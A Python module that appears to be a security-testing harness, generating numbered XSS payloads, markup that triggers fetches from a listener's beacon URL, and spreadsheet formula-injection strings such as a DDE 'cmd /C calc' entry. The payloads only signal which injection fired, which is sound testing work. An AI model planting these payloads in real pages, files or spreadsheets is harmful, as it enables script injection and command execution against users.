"""Words of a document that a browser might run or fetch, or a table program might compute.

An address of a listener → 56 payloads and more of our own writing; each names its own number, so
that what fired is known.
"""

from __future__ import annotations

#: what runs where markup is not escaped: it calls `fired(number)`
_RUN = (
    "<script>fired({n})</script>",
    "<ScRiPt >fired({n})</sCrIpT>",
    "<script src={u}></script>",
    "<script type=module>fired({n})</script>",
    "<img src=x onerror=fired({n})>",
    "<img src=x onerror='fired({n})'//",
    "<svg onload=fired({n})>",
    "<svg><script>fired({n})</script></svg>",
    "<svg><animate onbegin=fired({n}) attributeName=x dur=1s>",
    "<body onload=fired({n})>",
    "<iframe srcdoc='<script>parent.fired({n})</script>'></iframe>",
    '<iframe src="javascript:parent.fired({n})"></iframe>',
    "<input autofocus onfocus=fired({n})>",
    "<select autofocus onfocus=fired({n})>",
    "<textarea autofocus onfocus=fired({n})>",
    "<details open ontoggle=fired({n})>",
    "<video><source onerror=fired({n})></video>",
    "<audio src=x onerror=fired({n})>",
    "<marquee onstart=fired({n})>",
    '<object data="javascript:fired({n})"></object>',
    '<embed src="javascript:fired({n})">',
    "<math><mtext><img src=x onerror=fired({n})></mtext></math>",
    "<style>@keyframes a{{}}p{{animation:a}}</style><p onanimationstart=fired({n})>",
    '"><img src=x onerror=fired({n})>',
    "'><svg onload=fired({n})>",
    "</title><script>fired({n})</script>",
    "</textarea><script>fired({n})</script>",
    "</style><script>fired({n})</script>",
    "--><script>fired({n})</script>",
    "]]><script>fired({n})</script>",
    "&lt;script&gt;fired({n})&lt;/script&gt;",
    "\u003cscript\u003efired({n})\u003c/script\u003e",
    "{{{{constructor.constructor('fired({n})')()}}}}",
    "${{fired({n})}}",
    "[run](javascript:fired({n}))",
    '<a href="javascript:fired({n})" autofocus>run</a>',
    "javascript:fired({n})",
)
#: what fetches from elsewhere where markup or markdown is taken for what it looks like
_FETCH = (
    "<img src={u}>",
    '<img srcset="{u} 1x">',
    "![b]({u})",
    "![b][r]\n\n[r]: {u}",
    "<link rel=stylesheet href={u}>",
    "<link rel=preload as=image href={u}>",
    "<link rel=icon href={u}>",
    "<style>@import '{u}';</style>",
    '<p style="background:url({u})">',
    "<style>body{{background:url({u})}}</style>",
    '<meta http-equiv=refresh content="0;url={u}">',
    "<base href={u}>",
    "<iframe src={u}></iframe>",
    "<video src={u} autoplay>",
    "<video poster={u}>",
    "<audio src={u} autoplay>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<svg><image href={u} /></svg>",
    "<svg><use href={u}#a /></svg>",
    "<input type=image src={u}>",
    "<form action={u}><button autofocus>",
    "<table background={u}>",
    "<script>fetch('{u}')</script>",
)
#: what a table program takes for a formula or a link
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("{u}","pay")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "http://127.0.0.1:9/pay",
    "mailto:a@b.example",
)


def payloads(address: str) -> tuple[str, ...]:
    """All that a browser might run or fetch; what fetches does so from `address`/beacon/number."""
    return tuple(
        template.format(n=number, u=f"{address}/beacon/{number}")
        for number, template in enumerate((*_RUN, *_FETCH))
    )


def formulas(address: str) -> tuple[str, ...]:
    """All that a table program might compute."""
    return tuple(template.replace("{u}", f"{address}/beacon/formula") for template in FORMULAS)
